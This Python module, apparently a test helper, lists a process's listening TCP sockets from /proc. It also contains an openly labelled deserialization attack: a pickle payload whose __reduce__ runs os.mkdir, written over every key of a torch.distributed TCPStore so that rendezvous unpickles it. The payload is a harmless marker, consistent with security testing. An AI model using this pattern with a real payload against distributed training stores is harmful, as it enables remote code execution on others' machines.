"""Sockets on which a process listens, and an attack on the one of a store."""

import base64
import ipaddress
import os
import pickle
import socket
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

Address = ipaddress.IPv4Address | ipaddress.IPv6Address
_LISTENS = "0A"  # man proc_pid_net, include/net/tcp_states.h
SOON = timedelta(seconds=5)


def listening(process: int) -> list[tuple[Address, int]]:
    """(address, port) of all sockets on which `process` takes connections over TCP."""
    table = _sockets(process)
    return [table[file] for file in _open_files(process) if file in table]


def _open_files(process: int) -> Iterator[str]:
    for descriptor in Path(f"/proc/{process}/fd").iterdir():
        with suppress(FileNotFoundError):  # closed in the meantime
            yield os.readlink(descriptor)


def _sockets(process: int) -> dict[str, tuple[Address, int]]:
    table: dict[str, tuple[Address, int]] = {}
    for name in ("tcp", "tcp6"):
        with suppress(FileNotFoundError):  # a kernel without IPv6
            for line in Path(f"/proc/{process}/net/{name}").read_text().splitlines()[1:]:
                _, local, _, state, *others = line.split()
                if state == _LISTENS:
                    address, port = local.split(":")
                    table[f"socket:[{others[5]}]"] = _address(address), int(port, 16)
    return table


def _address(hexadecimal: str) -> Address:
    """The kernel prints words of 32 bits, each as a number of this machine's byte order."""
    words = bytes.fromhex(hexadecimal)
    swapped = b"".join(words[at : at + 4][::-1] for at in range(0, len(words), 4))
    return ipaddress.ip_address(swapped)


class Planted:
    """An object that makes the directory `marker` in the process that unpickles it."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.marker),)


def attack(port: int, marker: Path) -> None:
    """Overwrites all that a store at `port` holds, as a stranger would whom torch's rendezvous unpickles."""
    planted = base64.b64encode(pickle.dumps(Planted(marker))).decode()
    for host in {"127.0.0.1", *own_addresses()}:
        with suppress(dist.DistError):
            store = dist.TCPStore(host, port, timeout=SOON, wait_for_workers=False)
            for key in store.list_keys() if hasattr(store, "list_keys") else ():
                store.set(key, planted)


def own_addresses() -> Iterator[str]:
    """The address that other machines see this one under, if there is any."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sends_nothing, suppress(OSError):
        sends_nothing.connect(("198.51.100.1", 9))
        yield sends_nothing.getsockname()[0]
